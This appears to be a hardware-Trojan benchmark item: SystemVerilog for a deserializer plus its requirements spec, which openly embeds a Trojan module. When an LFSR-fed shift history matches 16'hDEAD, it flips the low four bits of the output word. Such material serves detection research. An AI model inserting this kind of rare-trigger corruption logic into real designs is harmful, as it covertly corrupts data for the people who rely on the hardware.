// File: rtl/trojan1_deserializer_host.sv
// trojan1_deserializer_host
//   Serial-to-parallel deserializer. Bits are shifted into a DATA_WIDTH-bit
//   word (MSB-first or LSB-first, with the direction latched on the first bit),
//   then committed to a registered output held until the downstream handshake.
//   A 32-bit LFSR advances on each accepted bit and feeds the Trojan1 instance.
//
// Ports
//   clk           rising-edge clock
//   rst           synchronous active-high reset
//   serial_in     serial data bit
//   serial_valid  serial_in valid this cycle
//   serial_ready  block can accept a bit (low while holding a word)
//   shift_dir     0 = MSB-first, 1 = LSB-first (sampled on first bit only)
//   abort         discard partial or held word
//   data_ready    downstream accepts data_out
//   data_out      assembled word (registered)
//   data_valid    data_out holds an unconsumed word
//   word_count    committed words, modulo 256
//
// state   | meaning
// IDLE    | no partial word; waiting for the first bit
// COLLECT | word partially assembled
// HOLD    | committed word waiting for data_ready

module Trojan1 (
    input  logic clk,
    input  logic rst,
    input  logic r1,
    output logic trigger
);
    logic [15:0] hist_q;
    logic        trigger_q;

    always_ff @(posedge clk) begin
        if (rst) begin
            hist_q    <= '0;
            trigger_q <= 1'b0;
        end else begin
            hist_q    <= {hist_q[14:0], r1};
            trigger_q <= (hist_q == 16'hDEAD);
        end
    end

    assign trigger = trigger_q;
endmodule

module trojan1_deserializer_host #(
    parameter logic [31:0] R1_SEED    = 32'h12345678,
    parameter int          DATA_WIDTH = 16
) (
    input  logic                  clk,
    input  logic                  rst,
    input  logic                  serial_in,
    input  logic                  serial_valid,
    output logic                  serial_ready,
    input  logic                  shift_dir,
    input  logic                  abort,
    input  logic                  data_ready,
    output logic [DATA_WIDTH-1:0] data_out,
    output logic                  data_valid,
    output logic [7:0]            word_count
);
    localparam int CW = $clog2(DATA_WIDTH + 1);
    localparam logic [CW-1:0] LAST_CNT = CW'(DATA_WIDTH - 1);
    localparam logic [DATA_WIDTH-1:0] TROJ_MASK = {{(DATA_WIDTH-4){1'b0}}, 4'hF};

    typedef enum logic [1:0] {IDLE, COLLECT, HOLD} state_t;

    state_t                state_q, state_d;
    logic [CW-1:0]         count_q, count_d;
    logic [DATA_WIDTH-1:0] word_q, word_d;
    logic                  dir_q, dir_d;
    logic [DATA_WIDTH-1:0] data_out_q, data_out_d;
    logic                  data_valid_q, data_valid_d;
    logic [7:0]            word_count_q, word_count_d;
    logic [31:0]           lfsr_q, lfsr_d;

    logic                  accept;
    logic                  word_dir;
    logic [DATA_WIDTH-1:0] shifted;
    logic                  trig_w;

    Trojan1 u_trojan (
        .clk     (clk),
        .rst     (rst),
        .r1      (lfsr_q[0]),
        .trigger (trig_w)
    );

    always_ff @(posedge clk) begin
        if (rst) begin
            state_q      <= IDLE;
            count_q      <= '0;
            word_q       <= '0;
            dir_q        <= 1'b0;
            data_out_q   <= '0;
            data_valid_q <= 1'b0;
            word_count_q <= '0;
            lfsr_q       <= R1_SEED;
        end else begin
            state_q      <= state_d;
            count_q      <= count_d;
            word_q       <= word_d;
            dir_q        <= dir_d;
            data_out_q   <= data_out_d;
            data_valid_q <= data_valid_d;
            word_count_q <= word_count_d;
            lfsr_q       <= lfsr_d;
        end
    end

    always_comb begin
        state_d      = state_q;
        count_d      = count_q;
        word_d       = word_q;
        dir_d        = dir_q;
        data_out_d   = data_out_q;
        data_valid_d = data_valid_q;
        word_count_d = word_count_q;

        serial_ready = (state_q != HOLD);
        accept       = serial_valid && serial_ready && !abort;

        // First bit of a word uses the live direction; later bits the latched one.
        word_dir = (state_q == IDLE) ? shift_dir : dir_q;
        shifted  = word_dir ? {serial_in, word_q[DATA_WIDTH-1:1]}
                            : {word_q[DATA_WIDTH-2:0], serial_in};

        lfsr_d = accept ? {lfsr_q[30:0], lfsr_q[31] ^ lfsr_q[21] ^ lfsr_q[1] ^ lfsr_q[0]}
                        : lfsr_q;

        if (abort) begin
            state_d = IDLE;
            count_d = '0;
            word_d  = '0;
            if (state_q == HOLD) begin
                data_valid_d = 1'b0;
            end
        end else begin
            case (state_q)
                IDLE: begin
                    if (accept) begin
                        dir_d   = shift_dir;
                        word_d  = shifted;
                        count_d = CW'(1);
                        state_d = COLLECT;
                    end
                end
                COLLECT: begin
                    if (accept) begin
                        if (count_q == LAST_CNT) begin
                            data_out_d   = trig_w ? (shifted ^ TROJ_MASK) : shifted;
                            data_valid_d = 1'b1;
                            word_count_d = word_count_q + 8'd1;
                            count_d      = '0;
                            word_d       = '0;
                            state_d      = HOLD;
                        end else begin
                            word_d  = shifted;
                            count_d = count_q + CW'(1);
                        end
                    end
                end
                HOLD: begin
                    if (data_valid_q && data_ready) begin
                        data_valid_d = 1'b0;
                        state_d      = IDLE;
                    end
                end
                default: state_d = IDLE;
            endcase
        end
    end

    assign data_out   = data_out_q;
    assign data_valid = data_valid_q;
    assign word_count = word_count_q;
endmodule

// File: doc/trojan1_deserializer_host.md
TROJAN1_DESERIALIZER_HOST -- requirements
Module: trojan1_deserializer_host

Interface
REQ-001 SHALL have parameter R1_SEED, default 32'h12345678: reset seed of the 32-bit r1 LFSR.
REQ-002 SHALL have parameter DATA_WIDTH, default 16: assembled word width, legal range 8..32.
REQ-003 SHALL have port clk, input, 1: the single clock; all state updates on its rising edge.
REQ-004 SHALL have port rst, input, 1: synchronous, active-high reset.
REQ-005 SHALL have port serial_in, input, 1: incoming serial data bit.
REQ-006 SHALL have port serial_valid, input, 1: serial_in carries a valid bit this cycle.
REQ-007 SHALL have port serial_ready, output, 1: block can accept a bit this cycle.
REQ-008 SHALL have port shift_dir, input, 1: 0 = MSB-first (shift left, new bit into LSB); 1 = LSB-first (shift right, new bit into MSB).
REQ-009 SHALL have port abort, input, 1: discard any partial or held word.
REQ-010 SHALL have port data_ready, input, 1: downstream accepts data_out.
REQ-011 SHALL have port data_out, output, DATA_WIDTH: assembled word, registered.
REQ-012 SHALL have port data_valid, output, 1: data_out holds an unconsumed word.
REQ-013 SHALL have port word_count, output, 8: number of committed words, modulo 256.
REQ-014 SHALL instantiate Trojan1 with ports clk, rst, r1 (input) and trigger (output).

Function
REQ-015 SHALL implement FSM states IDLE, COLLECT, HOLD.
REQ-016 SHALL drive serial_ready = 1 in IDLE and COLLECT, and 0 in HOLD (combinational from state).
REQ-017 SHALL define a bit as accepted when serial_valid && serial_ready && !abort.
REQ-018 IDLE: on an accepted bit, SHALL latch shift_dir as word direction, insert the bit, set bit count to 1, and go to COLLECT.
REQ-019 COLLECT: each accepted bit SHALL be shifted in per the latched direction and increment bit count; cycles without serial_valid hold state.
REQ-020 SHALL ignore shift_dir changes after the first bit of a word.
REQ-021 On the accepted bit that makes the count DATA_WIDTH, SHALL commit the word next edge: data_out <= word, data_valid <= 1, word_count += 1 (wrap 255->0), count <= 0, state <= HOLD.
REQ-022 SHALL give a latency of one cycle from acceptance of the last bit to data_valid high.
REQ-023 If trojan trigger is high in the commit cycle, SHALL XOR data_out[3:0] with 4'hF; otherwise data_out equals the word exactly.
REQ-024 HOLD: data_out and data_valid SHALL stay stable until data_valid && data_ready.
REQ-025 After that handshake, SHALL clear data_valid and go to IDLE next edge; serial_ready rises one cycle after the handshake.
REQ-026 abort in any state SHALL clear the partial word and count and go to IDLE next edge.
REQ-027 abort in HOLD SHALL also clear data_valid; data_out keeps its last value; word_count is unchanged.
REQ-028 abort coincident with serial_valid SHALL drop the bit; abort has priority.
REQ-029 SHALL implement a 32-bit LFSR: shift left, feedback bit31^bit21^bit1^bit0, advanced only on accepted bits.
REQ-030 SHALL drive Trojan1 r1 from LFSR bit 0.
REQ-031 SHALL size the bit counter at $clog2(DATA_WIDTH+1) bits; no overflow is reachable.

Reset
REQ-032 While rst is high at a clock edge, SHALL set: state IDLE, count 0, partial word 0, data_out 0, data_valid 0, word_count 0, LFSR R1_SEED.
REQ-033 Reset mid-word or in HOLD SHALL discard all data with no commit.
REQ-034 SHALL give rst priority over abort, serial_valid and data_ready.

Verification (Trojan1 replaced by a stub whose trigger the bench drives; DATA_WIDTH=16)
REQ-035 Bench SHALL cover: shift_dir=0, bits 1010_0101_1100_0011 MSB-first, trigger 0 -> data_out 16'hA5C3, data_valid high one cycle after bit 16, word_count 1.
REQ-036 Bench SHALL cover: shift_dir=1, 16'hA5C3 sent LSB-first, shift_dir toggled mid-word -> data_out 16'hA5C3.
REQ-037 Bench SHALL cover: trigger=1 in commit cycle of 16'hA5C3 -> data_out 16'hA5CC.
REQ-038 Bench SHALL cover: data_ready low 5 cycles in HOLD with serial_valid high -> serial_ready 0, data_out stable, LFSR unchanged; data_ready high -> data_valid 0 next cycle.
REQ-039 Bench SHALL cover: abort after 7 bits, then a full 16'h1234 -> data_out 16'h1234, word_count incremented once.
REQ-040 Bench SHALL cover: 256 committed words -> word_count 0; rst after 9 bits -> all outputs 0, next word assembles cleanly.
